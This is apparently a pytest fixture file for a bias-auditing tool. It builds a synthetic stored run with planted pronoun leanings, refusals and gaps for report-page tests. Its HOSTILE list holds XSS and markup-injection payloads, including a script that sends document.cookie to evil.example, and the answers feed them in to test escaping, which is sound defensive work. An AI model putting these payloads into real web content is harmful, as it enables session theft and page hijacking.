"""A run as it would be stored, with all that makes a report hard: two modes, three subjects, hostile answers, gaps."""

from __future__ import annotations

import math
import random
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from tiltmeter import registry
from tiltmeter.analyse import estimates as run_estimates
from tiltmeter.protocol import Protocol
from tiltmeter.records import Estimate, Label, Output, Reply, Token, Trial
from tiltmeter.report.page_model.page import Content
from tiltmeter.report.run_page import content
from tiltmeter.stages.planning.plan import Choices, request, trials
from tiltmeter.store import Store

OWN = "choice/1@0f0f0f0f"
JUDGE = "choice/openai:judge-1@1e1e1e1e"
HOSTILE = (
    "<script>fetch('http://evil.example/'+document.cookie)</script>",
    '"><img src=http://evil.example/x.png onerror=alert(1)>',
    "<svg/onload=alert(1)><style>@import url(http://evil.example/a.css)</style>",
    "<a href=\"javascript:alert(1)\">she</a> <a href='data:text/html,<script>alert(1)</script>'>he</a>",
    "</div></details></main><iframe src=http://evil.example></iframe>",
    "she \u202e eh\u202c \x1b[31mred\x1b[0m \u2066hidden\u2069 \u200bzero\ufeff",
    "| a | b |\n|---|---|\n```\n# not a heading\n``` <!-- {{ 7*7 }} {% raw %} -->",
)
LEANING = {"planted:she=.7": 0.70, "builtin": 0.5, "openai:<b>mini</b>|x": 0.42}


def pytest_configure(config: pytest.Config) -> None:
    config.addinivalue_line(
        "markers", "browser: looks at the page in Chromium; skipped where there is none"
    )


def _tilt(trial: Trial) -> float:
    """A planted share of she: by subject, class and order."""
    base = LEANING[trial.subject]
    by_class = {"communal": 0.14, "imaginative": 0.08, "standout": -0.1}.get(
        trial.factors["class"], 0.0
    )
    return base + by_class + (0.06 if trial.factors["order"] == "she_first" else -0.06)


def _sampled(trial: Trial, draw: random.Random) -> tuple[str, str]:
    """(text, value) of a drawn answer."""
    chance = draw.random()
    if chance < 0.05:
        return "I'm sorry, but I can't help with that.", "refusal"
    if chance < 0.07:
        return "s/he", "both"
    if chance < 0.09:
        return draw.choice(HOSTILE), "invalid"
    value = "she" if draw.random() < _tilt(trial) else "he"
    return draw.choice(
        ["{}", "'{}'", "**{}**", "{} is the most amazing person I have ever seen."]
    ).format(value), value


def _answered(
    trial: Trial, protocol: Protocol, draw: random.Random
) -> tuple[object, Reply, Output, list[Label]]:
    asked = request(trial, protocol)
    about = {
        "served": f"{trial.subject}-2026-09-01",
        "usage": (31, 4),
        "cost": 0.0001 if "openai" in trial.subject else 0.0,
    }
    if trial.mode == "exact":
        she = min(0.95, max(0.05, _tilt(trial) + draw.gauss(0, 0.03)))
        mass = 0.88 if trial.subject != "builtin" else 0.31
        odds = {"she": mass * she, "he": mass * (1 - she), "other": 1 - mass}
        top = (
            Token(b"she", math.log(odds["she"])),
            Token(b"he", math.log(odds["he"])),
            Token(b"\xe5\xbd", -4.0),
        )
        reply = Reply("she", alternatives=(top,), fingerprint="fp_1", omitted=("top_p",), **about)
        labels = [
            Label(trial.id, OWN, "pronoun", value, 0, weight) for value, weight in odds.items()
        ]
    else:
        text, value = _sampled(trial, draw)
        reply = Reply(text, fingerprint="fp_1", **about)
        labels = [Label(trial.id, OWN, "pronoun", value)]
        if trial.subject == "builtin":
            labels.append(Label(trial.id, JUDGE, "pronoun", "she" if value == "both" else value))
    return asked, reply, Output(trial.id, reply.outcome, reply.text, asked.key), labels


def fill(store: Store, protocol: Protocol, choices: Choices, seed: int = 7) -> None:
    draw = random.Random(seed)
    store.freeze(choices.frozen(protocol))
    store.put("source", "roles")
    for number, trial in enumerate(list(store.iter_unanswered(trials(protocol, choices)))):
        if number % 97 == 96:
            continue  # a run that was stopped: some trials have no output
        asked, reply, output, labels = _answered(trial, protocol, draw)
        store.write([(asked, reply)], [output], labels)


def holed(estimates: list[Estimate]) -> list[Estimate]:
    """Estimates that could not be measured, among the others."""
    hole = next(
        e for e in estimates if e.measure == "share_she" and e.condition.get("class") == "outlook"
    )
    empty = replace(
        hole,
        value=None,
        low=None,
        high=None,
        p=None,
        p_adjusted=None,
        detectable=None,
        test=None,
        n=0,
        outcomes={"refusal": 18},
        note="no <i>answer</i> counts \u202e",
    )
    return [empty if e is hole else e for e in estimates]


@pytest.fixture(scope="session")
def roles() -> Protocol:
    return registry.protocol("roles")


@pytest.fixture(scope="session")
def store(tmp_path_factory: pytest.TempPathFactory, roles: Protocol) -> Iterator[Store]:
    folder: Path = tmp_path_factory.mktemp("audit") / "run"
    with Store(folder, create=True, writing=True) as opened:
        fill(opened, roles, Choices(tuple(LEANING), ("en",), modes=("exact",)))
        fill(opened, roles, Choices(tuple(LEANING), ("en",), modes=("sampled",), limit=12))
        yield opened


@pytest.fixture(scope="session")
def estimates(store: Store, roles: Protocol) -> list[Estimate]:
    return holed(run_estimates.estimates(store, roles)) + run_estimates.estimates(
        store, roles, "published"
    )


@pytest.fixture(scope="session")
def built(store: Store, roles: Protocol, estimates: list[Estimate]) -> Content:
    return content.build(store, roles, estimates)
